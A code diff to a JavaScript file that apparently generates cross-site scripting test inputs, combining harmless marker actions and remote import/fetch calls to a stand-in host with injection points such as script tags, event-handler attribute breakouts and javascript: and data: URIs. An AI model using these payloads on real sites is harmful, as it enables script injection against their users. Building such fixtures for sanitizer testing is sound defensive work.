@@ -1,6 +1,8 @@
 /** What would be seen if one of them ever ran: a dialog, a mark on the window, a request to elsewhere. */
 const acts = ['alert(1)', 'confirm`1`', 'self.owned=1', "import('//e.t')", "fetch('//e.t')", "name='x'"]
 
+const scheme = 'javascript'
+
 /** Where a page could take it for more than text. `*` stands for what it would do. */
 const places = [
   '<script>*</script>',
@@ -33,8 +35,8 @@ const places = [
   '" autofocus onfocus=* x="',
   "' onpointerenter=* x='",
   '` onload=*',
-  `${'javascript'}:*`,
-  `${'JaVaScRiPt'}:*//`,
+  `${scheme}:*`,
+  `${scheme.replace('s', 'S')}:*//`,
   '\u0001javascript:*',
   'data:text/html,<script>*</script>',
   '<a href=javascript:*>x</a>',
